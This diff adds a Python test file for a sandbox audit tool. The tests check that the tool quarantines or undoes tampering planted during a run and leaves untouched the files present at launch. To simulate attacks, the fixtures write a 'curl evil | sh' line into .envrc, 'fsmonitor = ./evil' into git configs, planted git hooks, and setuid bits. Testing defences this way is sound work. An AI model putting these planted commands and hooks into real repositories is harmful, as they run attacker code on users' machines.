@@ -1,0 +1,206 @@
+"""The audit and the live watch (corral.audit, corral.livewatch), without a sandbox: a
+tree changed the way a payload would change it, then audited.  As root and as the test
+user (a script run as that identity, through fsops as the tree's owner); each with its
+control: what was there at launch, unchanged, is left alone.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import textwrap
+from pathlib import Path
+
+from conftest import Identity
+
+PRELUDE = """
+import json, os, subprocess, sys, time
+from corral import audit
+def git(cwd, *args):
+    subprocess.run(["git", "-c", "init.defaultBranch=main", *args], cwd=cwd, check=True,
+                   capture_output=True)
+def later():
+    time.sleep(0.02)  # ctime granularity: what follows is "during the run"
+"""
+
+
+def as_identity(who: Identity, body: str) -> dict[str, object]:
+    proc = subprocess.run([*who.prefix(), "-c", PRELUDE + textwrap.dedent(body)],
+                          env=who.environ(), cwd=who.tmp, capture_output=True, text=True,
+                          timeout=120, check=False)
+    assert proc.returncode == 0, proc.stderr
+    result: dict[str, object] = json.loads(proc.stdout.strip().splitlines()[-1])
+    return result
+
+
+def test_a_new_repository_loses_what_git_would_run(who: Identity) -> None:
+    r = as_identity(who, f"""
+        top = {str(who.tmp)!r}
+        q = os.path.join(top, "quarantine"); os.mkdir(q)
+        git(top, "init", "-q", "old")
+        with open(os.path.join(top, "old/.git/config"), "a") as f:
+            f.write("[core]\\n\\tfsmonitor = ./evil\\n")  # the user's own, at launch
+        census = audit.Census(((top, None),), audit.protected_names(),
+                              gitdirs=frozenset({{os.path.join(top, "old/.git")}}))
+        later()
+        git(top, "init", "-q", "clone")  # a clone: remote and branches only
+        git(top + "/clone", "remote", "add", "origin", "https://example.invalid/x.git")
+        git(top, "init", "-q", "--bare", "evil.git")
+        with open(os.path.join(top, "evil.git/config"), "a") as f:
+            f.write("[core]\\n\\tfsmonitor = ./evil\\n")
+        for hook in ("clone/.git/hooks/pre-commit", "evil.git/hooks/post-receive"):
+            with open(os.path.join(top, hook), "w") as f:
+                f.write("#!/bin/sh\\n")
+        with open(os.path.join(top, ".envrc"), "w") as f:
+            f.write("curl evil | sh\\n")
+        actions = audit.Auditor(census, lambda: q).run()
+        print(json.dumps({{"did": sorted((os.path.relpath(a.path, top), a.did)
+                                         for a in actions),
+                          "left": sorted(os.listdir(top)), "quarantine": len(os.listdir(q))}}))
+    """)
+    assert r["did"] == [[".envrc", "quarantined"], ["clone/.git/hooks/pre-commit", "quarantined"],
+                        ["evil.git/config", "quarantined"],
+                        ["evil.git/hooks/post-receive", "quarantined"]], r
+    assert r["quarantine"] == 4 and ".envrc" not in r["left"]  # type: ignore[operator]
+    # Control: the clone's inert config and the repository that existed (fsmonitor and
+    # all, unchanged since launch) are left as they were: they were not planted.
+
+
+def test_a_reused_workspace_gets_its_control_files_back(who: Identity) -> None:
+    r = as_identity(who, f"""
+        top = os.path.join({str(who.tmp)!r}, "ws"); os.mkdir(top)
+        q = os.path.join({str(who.tmp)!r}, "quarantine"); os.mkdir(q)
+        git(top, "init", "-q", ".")
+        with open(os.path.join(top, ".git/hooks/pre-commit"), "w") as f:
+            f.write("#!/bin/sh\\necho team hook\\n")
+        with open(os.path.join(top, ".vscode"), "w") as f:
+            f.write("settings\\n")
+        config = open(os.path.join(top, ".git/config")).read()
+        census = audit.census_of_tree(top, None, audit.protected_names())
+        bare = audit.Census(census.trees, census.names, census.gitdirs,
+                            protected=census.protected, started_ns=census.started_ns)
+        later()
+        for rel in (".git/config", ".git/hooks/pre-commit", ".vscode"):
+            with open(os.path.join(top, rel), "a") as f:
+                f.write("[core]\\n\\tfsmonitor = ./evil\\n")
+        actions = audit.Auditor(census, lambda: q).run()
+        restored = open(os.path.join(top, ".git/config")).read() == config
+        hook = open(os.path.join(top, ".git/hooks/pre-commit")).read()
+        # Control: the same changes with no copies taken at launch are only quarantined.
+        for rel in (".git/config",):
+            with open(os.path.join(top, rel), "a") as f:
+                f.write("[core]\\n\\tfsmonitor = ./evil\\n")
+        again = audit.Auditor(bare, lambda: q).run()
+        print(json.dumps({{"restored": restored, "hook": hook,
+                          "did": sorted({{a.did for a in actions}}),
+                          "again": sorted({{a.did for a in again}}),
+                          "config_left": os.path.exists(os.path.join(top, ".git/config"))}}))
+    """)
+    assert r["restored"] and r["hook"] == "#!/bin/sh\necho team hook\n", r
+    assert r["did"] == ["quarantined", "restored"]
+    assert r["again"] == ["quarantined"] and r["config_left"] is False
+
+
+def test_set_id_bits_set_during_the_run_are_cleared(who: Identity) -> None:
+    r = as_identity(who, f"""
+        top = {str(who.tmp)!r}
+        for name in ("before", "during"):
+            with open(os.path.join(top, name), "w") as f:
+                f.write("x")
+        os.chmod(os.path.join(top, "before"), 0o4755)  # the user's own, at launch
+        later()
+        census = audit.Census(((top, None),), audit.protected_names())
+        later()
+        os.chmod(os.path.join(top, "during"), 0o6755)
+        actions = audit.Auditor(census, lambda: "/nonexistent").run()
+        modes = {{n: os.stat(os.path.join(top, n)).st_mode & 0o7777
+                  for n in ("before", "during")}}
+        print(json.dumps({{"modes": modes, "did": [a.did for a in actions]}}))
+    """)
+    assert r["modes"] == {"before": 0o4755, "during": 0o755}, r  # control: "before" kept
+    assert r["did"] == ["cleared set-id bits of"]
+
+
+def test_placeholders_go_while_still_empty(who: Identity) -> None:
+    r = as_identity(who, f"""
+        top = {str(who.tmp)!r}
+        made = []
+        for name in ("empty", "written"):
+            p = os.path.join(top, name)
+            open(p, "w").close()
+            st = os.lstat(p)
+            made.append((p, st.st_dev, st.st_ino))
+        with open(os.path.join(top, "written"), "w") as f:
+            f.write("the user's own words\\n")
+        census = audit.Census(((top, None),), audit.protected_names(),
+                              placeholders=tuple(made))
+        audit.Auditor(census, lambda: "/nonexistent").run()
+        print(json.dumps(sorted(os.listdir(top))))
+    """)
+    assert "empty" not in r and "written" in r  # type: ignore[operator]
+
+
+def test_the_live_watch_removes_what_appears_at_once(who: Identity) -> None:
+    r = as_identity(who, f"""
+        from corral.livewatch import LiveWatch
+        top = {str(who.tmp)!r}
+        git(top, "init", "-q", "repo")
+        gitdir = os.path.join(top, "repo/.git")
+        with open(os.path.join(gitdir, "config.worktree"), "w") as f:
+            f.write("[core]\\n")  # there at launch: never removed
+        windows = []
+        with LiveWatch([(gitdir, top, None)]) as watch:
+            for i in range(20):
+                start = time.monotonic()
+                with open(os.path.join(gitdir, "commondir.lock"), "w") as f:
+                    f.write("../../elsewhere\\n")
+                os.rename(os.path.join(gitdir, "commondir.lock"),
+                          os.path.join(gitdir, "commondir"))  # as git writes it
+                while os.path.exists(os.path.join(gitdir, "commondir")):
+                    if time.monotonic() - start > 10:
+                        break
+                    time.sleep(0.0005)
+                windows.append(time.monotonic() - start)
+        kept = os.path.exists(os.path.join(gitdir, "config.worktree"))
+        # Control: with the watch closed, nothing removes it.
+        open(os.path.join(gitdir, "commondir"), "w").close()
+        time.sleep(0.5)
+        print(json.dumps({{"windows": windows, "kept": kept, "removed": len(watch.actions),
+                          "after": os.path.exists(os.path.join(gitdir, "commondir"))}}))
+    """)
+    assert max(r["windows"]) < 10 and r["removed"] == 20, r  # type: ignore[arg-type]
+    assert r["kept"] and r["after"]
+
+
+def test_quarantine_across_file_systems_copies_then_removes(who: Identity) -> None:
+    """/dev/shm is another file system: a rename gives EXDEV, the move copies by
+    descriptor; a FIFO, which cannot be copied, is refused and stays."""
+    shm = Path("/dev/shm") / f"corral-test-q-{os.getpid()}-{who.name}"
+    shm.mkdir()
+    os.chown(shm, who.uid, who.gid)
+    try:
+        r = as_identity(who, f"""
+            from corral import fsops, fswalk
+            top = {str(who.tmp)!r}
+            os.makedirs(os.path.join(top, "d/sub"))
+            with open(os.path.join(top, "d/sub/f"), "w") as f:
+                f.write("content")
+            os.symlink("/etc/passwd", os.path.join(top, "d/link"))
+            os.mkfifo(os.path.join(top, "fifo"))
+            with fsops.Tree(top) as src, fsops.Tree({str(shm)!r}) as dst:
+                fswalk.move(src, "d", dst, "d")
+                try:
+                    fswalk.move(src, "fifo", dst, "fifo")
+                    fifo = "moved"
+                except OSError as e:
+                    fifo = e.errno
+            print(json.dumps({{"gone": not os.path.exists(os.path.join(top, "d")),
+                              "copied": open({str(shm)!r} + "/d/sub/f").read(),
+                              "link": os.readlink({str(shm)!r} + "/d/link"), "fifo": fifo,
+                              "fifo_left": os.path.exists(os.path.join(top, "fifo"))}}))
+        """)
+    finally:
+        subprocess.run(["rm", "-rf", str(shm)], check=True)
+    assert r == {"gone": True, "copied": "content", "link": "/etc/passwd", "fifo": 18,
+                 "fifo_left": True}, r
